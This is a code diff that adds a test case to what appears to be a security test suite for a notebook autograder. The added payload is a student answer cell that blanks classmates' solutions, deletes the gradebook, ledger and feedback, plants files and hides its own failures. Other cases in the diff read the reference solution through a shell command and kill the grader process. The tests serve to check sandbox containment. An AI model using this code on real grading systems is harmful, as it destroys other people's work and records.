@@ -52,6 +52,56 @@ class Case:
     link: Link | None = None  # file-level cases: the notebook is a link, not a file
 
 
+REWRITER = "a_rewrites_classmates"  # sorts first: graded before the classmates it attacks
+# An answer cell's extra code that looks for the course folder (walking up from its working
+# folder, and at the path `_course_root` names) and, everywhere it can, rewrites the classmates'
+# answer cells in submitted/ and autograded/, plants files, and deletes the gradebook, the
+# ledger, the reports and the feedback pages. Every attempt that fails is passed over quietly.
+REWRITE_CLASSMATES = """\
+import glob as _glob, json as _json, os as _os
+
+def _sabotage(root):
+    for pattern in ('submitted/*/*/*.ipynb', 'autograded/*/*/*.ipynb'):
+        for path in _glob.glob(_os.path.join(root, pattern)):
+            if '%s' in path:
+                continue
+            try:
+                with open(path) as fh:
+                    nb = _json.load(fh)
+                for c in nb['cells']:
+                    if c.get('metadata', {}).get('nbgrader', {}).get('solution'):
+                        c['source'] = 'pass'
+                with open(path, 'w') as fh:
+                    _json.dump(nb, fh)
+            except Exception:
+                pass
+    for pattern in ('feedback/*/*/*.html', 'gradebook.db', 'grading/ledger.jsonl', 'grades.csv',
+                    'summary.csv', 'summary/*'):
+        for path in _glob.glob(_os.path.join(root, pattern)):
+            try:
+                _os.remove(path)
+            except Exception:
+                pass
+    for folder in ('submitted', 'autograded', 'feedback', 'submitted/control_1/01_neuron'):
+        try:
+            with open(_os.path.join(root, folder, 'planted.txt'), 'w') as fh:
+                fh.write('planted')
+        except Exception:
+            pass
+
+_roots, _here = {_course_root}, _os.getcwd()
+while True:
+    _roots.add(_here)
+    if _os.path.dirname(_here) == _here:
+        break
+    _here = _os.path.dirname(_here)
+for _root in sorted(_roots):
+    try:
+        _sabotage(_root)
+    except Exception:
+        pass
+""" % REWRITER
+
 WRONG_SIGMOID = "def sigmoid(z):\n    return 1.0 / (1.0 + np.exp(z))\n"
 
 CASES = [
@@ -172,6 +222,10 @@ CASES = [
          replace("relu", "import subprocess\nsrc = subprocess.run(['cat', "
                  f"{str(ROOT / 'autograder' / 'reference' / 'neuron.py')!r}], capture_output=True,"
                  " text=True).stdout\nexec(src)"), {"test_relu": 0}, says="not allowed while grading"),
+    Case(REWRITER, "01_neuron", "a cell that rewrites every classmate's answer cells with `pass` "
+         "and deletes the gradebook, the ledger and the reports",
+         append("relu", "\n".join(["_course_root = '@SUBMITTED@/..'", *REWRITE_CLASSMATES.splitlines()])),
+         total=12),
     Case("kill_grader", "01_neuron", "a cell that tries to kill the grading process",
          append("setup", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"), total=12),
     # --- noise
